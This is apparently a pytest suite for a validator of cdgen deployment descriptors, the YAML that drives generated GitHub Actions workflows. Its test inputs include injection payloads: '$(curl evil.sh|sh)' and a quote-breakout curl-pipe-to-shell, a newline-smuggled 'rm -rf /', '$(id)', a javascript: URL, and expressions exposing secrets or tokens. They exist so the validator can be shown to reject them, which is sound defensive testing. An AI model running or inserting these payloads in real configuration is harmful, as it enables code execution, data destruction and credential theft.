"""Bad descriptors: every violation reported at once, each at its exact position."""

from __future__ import annotations

from pathlib import Path

import pytest

from cdgen.descriptor import parse_descriptor
from cdgen.errors import DescriptorError
from cdgen.validate import validate_document

VALID = """\
version: 1
name: api
branch: main
image:
  registry: ghcr.io
  repository: acme/api
  context: .
  dockerfile: Dockerfile
  platforms: [linux/amd64]
  tag-latest: true
  test: npm test
environments:
  - name: staging
    url: https://staging.example.com
    kubernetes:
      kubeconfig-secret: KUBE_CONFIG
      namespace: staging
      deployment: api
      container: api
      rollout-timeout: 5m
    smoke:
      path: /health
      retries: 5
      interval: 10s
      expect-version: false
    e2e:
      run: npm run test:e2e
      node-version: "22"
      rollback-on-failure: true
  - name: production
    url: https://example.com
    approval: reviewers
    kubernetes: { namespace: production }
action:
  repository: cdgen-dev/cdgen
  ref: 5f0c3b7a1e2d4c6b8a9f0e1d2c3b4a5968778695
  version: v0.1.0
"""


def problems(text: str) -> list[str]:
    try:
        validate_document(parse_descriptor(text.encode(), "cdgen.yml"))
    except DescriptorError as error:
        return [str(v) for v in error.violations]
    return []


def replace(old: str, new: str) -> str:
    assert VALID.count(old) == 1, old
    return VALID.replace(old, new)


def test_the_base_descriptor_is_valid() -> None:
    assert problems(VALID) == []


DNS = (
    "must be a DNS-1123 label: lowercase letters, digits and '-', starting and ending with a "
    "letter or digit, at most 63 characters; not `null`, `true`, `false` or a number (GitHub "
    "reads those as YAML values, not names)"
)
CMD = (
    "must be a non-empty shell command without `${{` (GitHub expressions are never "
    "interpolated into commands)"
)
URL = (
    "must be an http:// or https:// URL with a host, an optional port and a plain path "
    "(letters, digits, . _ ~ / - and %XX escapes); the host a DNS name (labels of 1 to 63 characters, "
    "at most 253 in all, not ending in a number) or an IPv4 address, the port from 1 to 65535"
)
BRANCH = (
    "must be a branch name git accepts, written with letters, digits, '.', '_', '/' and '-': "
    "not starting with '-', no component starting with '.' or ending in '.lock', no '..' or "
    "'//', not ending in '/' or '.', and not HEAD"
)

CASES = [
    pytest.param(
        "name: api\n", "name: Api_Server\n", [f"2:7: name: {DNS} (got 'Api_Server')"], id="name"
    ),
    pytest.param(
        "branch: main\n",
        "branch: main*\n",
        [f"3:9: branch: {BRANCH} (got 'main*')"],
        id="branch-wildcard",
    ),
    pytest.param(
        "  registry: ghcr.io\n",
        "  registry: Docker.io/acme\n",
        [
            "5:13: image.registry: must be a registry host such as ghcr.io, docker.io or "
            "registry.example.com:5000: lowercase DNS labels with at least one '.' (or a :port, "
            "or localhost), and an optional :port (got 'Docker.io/acme')"
        ],
        id="registry",
    ),
    pytest.param(
        "  test: npm test\n",
        "  test: npm test ${{ secrets.NPM_TOKEN }}\n",
        [f"11:9: image.test: {CMD} (got 'npm test ${{{{ secrets.NPM_TOKEN }}}}')"],
        id="test-expression",
    ),
    pytest.param(
        "      run: npm run test:e2e\n",
        "      run: |\n        echo ok\n        echo ${{ github.event.head_commit.message }}\n",
        [
            f"27:12: environments[0].e2e.run: {CMD} "
            "(got 'echo ok\\necho ${{ github.event.head_commit.message }}\\n')"
        ],
        id="e2e-expression-multiline",
    ),
    pytest.param(
        "    url: https://staging.example.com\n",
        "    url: https://staging.example.com/$(curl evil.sh|sh)\n",
        [
            f"14:10: environments[0].url: {URL} (got 'https://staging.example.com/$(curl evil.sh|sh)')"
        ],
        id="url-shell",
    ),
    pytest.param(
        "    url: https://staging.example.com\n",
        "    url: javascript:alert(1)\n",
        [f"14:10: environments[0].url: {URL} (got 'javascript:alert(1)')"],
        id="url-scheme",
    ),
    pytest.param(
        "      namespace: staging\n",
        '      namespace: "staging\\nrm -rf /"\n',
        [f"17:18: environments[0].kubernetes.namespace: {DNS} (got 'staging\\nrm -rf /')"],
        id="namespace-newline",
    ),
    pytest.param(
        "      kubeconfig-secret: KUBE_CONFIG\n",
        "      kubeconfig-secret: github_token\n",
        [
            "16:26: environments[0].kubernetes.kubeconfig-secret: must be a GitHub secret name: "
            "letters, digits and '_', not starting with a digit or GITHUB_ (got 'github_token')"
        ],
        id="secret-github-prefix",
    ),
    pytest.param(
        "      rollout-timeout: 5m\n",
        "      rollout-timeout: 5 minutes\n",
        [
            "20:24: environments[0].kubernetes.rollout-timeout: must be a duration such as 90s, "
            "5m or 1h, from 1s to 6h (in one unit: at most 21600s, 360m or 6h) (got '5 minutes')"
        ],
        id="duration",
    ),
    pytest.param(
        "      path: /health\n",
        "      path: /health?x=${{ github.token }}\n",
        [
            "22:13: environments[0].smoke.path: must be an absolute URL path such as /health "
            "(letters, digits, . _ ~ / - and %XX escapes) (got '/health?x=${{ github.token }}')"
        ],
        id="smoke-path-expression",
    ),
    pytest.param(
        "      retries: 5\n",
        "      retries: -1\n",
        ["23:16: environments[0].smoke.retries: must be at least 0 (got -1)"],
        id="retries-range",
    ),
    pytest.param(
        "      expect-version: false\n",
        "      expect-version: yes\n",
        ["25:23: environments[0].smoke.expect-version: must be true or false (got 'yes')"],
        id="boolean-type",
    ),
    pytest.param(
        "    approval: reviewers\n",
        "    approval: auto\n",
        ["32:15: environments[1].approval: must be one of: none, reviewers, manual (got 'auto')"],
        id="approval-enum",
    ),
    pytest.param(
        "  - name: production\n",
        "  - name: staging\n",
        ["30:11: environments[1].name: duplicate environment 'staging' (first defined on line 13)"],
        id="duplicate-environment",
    ),
    pytest.param(
        "  ref: 5f0c3b7a1e2d4c6b8a9f0e1d2c3b4a5968778695\n  version: v0.1.0\n",
        "  ref: 5f0c3b7a1e2d4c6b8a9f0e1d2c3b4a5968778695\n",
        ["34:1: action: missing required key 'version'"],
        id="sha-needs-version",
    ),
    pytest.param(
        "  ref: 5f0c3b7a1e2d4c6b8a9f0e1d2c3b4a5968778695\n",
        "  ref: main\n",
        [
            "36:8: action.ref: must be a full 40-character commit SHA (recommended) or a version "
            "tag such as v1 (got 'main')"
        ],
        id="action-ref",
    ),
    pytest.param(
        "    smoke:\n      path",
        "    smok:\n      path",
        ["21:5: environments[0].smok: unknown key 'smok' (did you mean 'smoke'?)"],
        id="unknown-key-did-you-mean",
    ),
    pytest.param(
        "version: 1\n",
        "version: 1\nowner: me\n",
        [
            "2:1: owner: unknown key 'owner' (allowed: action, branch, environments, image, metrics, name, "
            "services, site, unmanaged, version)"
        ],
        id="unknown-key-allowed",
    ),
    pytest.param(
        "version: 1\n",
        "version: 2\n",
        ["1:10: version: must be 1 (the only descriptor version this cdgen reads) (got 2)"],
        id="version",
    ),
    pytest.param(
        "    kubernetes: { namespace: production }\n",
        "    kubernetes: { deployment: web }\n",
        ["33:5: environments[1].kubernetes: missing required key 'namespace'"],
        id="missing-required",
    ),
    pytest.param(
        "  platforms: [linux/amd64]\n",
        "  platforms: [linux/amd64, linux/amd64]\n",
        ["9:14: image.platforms: must not repeat an item"],
        id="platforms-unique",
    ),
    pytest.param(
        "action:\n",
        "  - name: qa\n    approval: manual\n    url: https://qa.example.com\n"
        "    kubernetes: { namespace: qa }\naction:\n",
        [],
        id="manual-tail-is-valid",
    ),
]


@pytest.mark.parametrize(("old", "new", "expected"), CASES)
def test_bad_descriptor(old: str, new: str, expected: list[str]) -> None:
    assert problems(replace(old, new)) == [f"cdgen.yml:{e}" for e in expected]


def test_every_violation_is_reported_at_once_in_position_order() -> None:
    text = replace("name: api\n", "name: API\n").replace("retries: 5", "retries: many")
    text = text.replace("namespace: production", "namespace: prod_1")
    assert [p.split(": ")[0] for p in problems(text)] == [
        "cdgen.yml:2:7",
        "cdgen.yml:23:16",
        "cdgen.yml:33:30",
    ]


def test_pipeline_is_reserved_for_manual_environments() -> None:
    text = VALID.replace(
        "action:\n",
        "  - name: pipeline\n    approval: manual\n    url: https://x.example.com\n    kubernetes: { namespace: x }\naction:\n",
    )
    assert problems(text) == [
        "cdgen.yml:34:11: environments[2].name: 'pipeline' cannot name a manual environment: "
        "cd.yml's promote-to input uses it for a run of the whole pipeline"
    ]


def test_manual_environment_must_be_last() -> None:
    text = replace("  - name: staging\n", "  - name: staging\n    approval: manual\n")
    assert problems(text) == [
        "cdgen.yml:31:11: environments[1].name: environment 'production' follows manual "
        "environment 'staging', so it must be 'approval: manual' too (manual environments are "
        "promoted by hand, in order)"
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "version: 1\nname: [api\n",
            "cdgen.yml:3:1: YAML syntax: expected ',' or ']', but got '<stream end>'",
        ),
        (
            "version: 1\n  name: api\n",
            "cdgen.yml:2:7: YAML syntax: mapping values are not allowed here",
        ),
        (
            "version: 1\nname: a\nname: b\n",
            'cdgen.yml:3:1: YAML syntax: found duplicate key "name" with value "b" (original value: "a")',
        ),
        ('version: 1\nname: "open\n', "cdgen.yml:3:1: YAML syntax: found unexpected end of stream"),
        (
            "\tversion: 1\n",
            "cdgen.yml:1:1: YAML syntax: found character '\\t' that cannot start any token",
        ),
        ("", "cdgen.yml:1:1: the descriptor is empty"),
        ("- 1\n", "cdgen.yml:1:1: must be a mapping"),
    ],
    ids=["flow", "indent", "duplicate-key", "unterminated", "tab", "empty", "not-a-mapping"],
)
def test_yaml_syntax_errors(text: str, expected: str) -> None:
    assert problems(text) == [expected]


# Each string field, and a payload that must never reach the generated workflows.
FIELDS = [
    ("name: api\n", "name: {}\n"),
    ("branch: main\n", "branch: {}\n"),
    ("  repository: acme/api\n", "  repository: {}\n"),
    ("  context: .\n", "  context: {}\n"),
    ("  dockerfile: Dockerfile\n", "  dockerfile: {}\n"),
    ("  platforms: [linux/amd64]\n", "  platforms: [{}]\n"),
    ("  test: npm test\n", "  test: {}\n"),
    ("  - name: staging\n", "  - name: {}\n"),
    ("    url: https://staging.example.com\n", "    url: {}\n"),
    ("      kubeconfig-secret: KUBE_CONFIG\n", "      kubeconfig-secret: {}\n"),
    ("      namespace: staging\n", "      namespace: {}\n"),
    ("      deployment: api\n", "      deployment: {}\n"),
    ("      container: api\n", "      container: {}\n"),
    ("      rollout-timeout: 5m\n", "      rollout-timeout: {}\n"),
    ("      path: /health\n", "      path: {}\n"),
    ("      interval: 10s\n", "      interval: {}\n"),
    ("      run: npm run test:e2e\n", "      run: {}\n"),
    ('      node-version: "22"\n', "      node-version: {}\n"),
    ("    approval: reviewers\n", "    approval: {}\n"),
    ("  repository: cdgen-dev/cdgen\n", "  repository: {}\n"),
    ("  ref: 5f0c3b7a1e2d4c6b8a9f0e1d2c3b4a5968778695\n", "  ref: {}\n"),
    ("  version: v0.1.0\n", "  version: {}\n"),
]
PAYLOADS = [
    '"x${{ github.event.issue.title }}"',
    '"ok\\n  injected: true"',
    '"abc\\n"',
    '"x\\"; curl evil.sh | sh; echo \\""',
    '"$(id)"',
]


@pytest.mark.parametrize(
    "payload", PAYLOADS, ids=["expression", "newline", "trailing-newline", "quote", "subshell"]
)
@pytest.mark.parametrize(("old", "new"), FIELDS, ids=[f[0].split(":")[0].strip() for f in FIELDS])
def test_injection_is_rejected_in_every_string_field(old: str, new: str, payload: str) -> None:
    text = replace(old, new.format(payload))
    line = VALID[: VALID.index(old)].count("\n") + 1
    found = problems(text)
    if old.strip().startswith(("test:", "run:")) and "${{" not in payload:
        # Commands are trusted shell; only GitHub expressions are forbidden in them.
        assert found == []
        return
    assert found, f"payload {payload} accepted in {old.strip()}"
    assert any(p.startswith(f"cdgen.yml:{line}:") for p in found), found


def test_commands_reach_the_workflow_verbatim_through_env(tmp_path: Path) -> None:
    from ruamel.yaml import YAML
    from support.generated import render_descriptor

    command = """echo "it's $HOME" \\\n  && printf '%s\\n' "a  b" # trailing: colon"""
    text = replace("  test: npm test\n", f"  test: {_yaml_quote(command)}\n")
    cd = YAML(typ="safe").load(render_descriptor(tmp_path, text)[".github/workflows/cd.yml"])
    steps = cd["jobs"]["build"]["steps"]
    test_step = next(s for s in steps if s.get("name") == "Test the built image")
    assert test_step["env"]["TEST_COMMAND"] == command
    assert "TEST_COMMAND" in test_step["run"]


def _yaml_quote(value: str) -> str:
    import json

    return json.dumps(value)
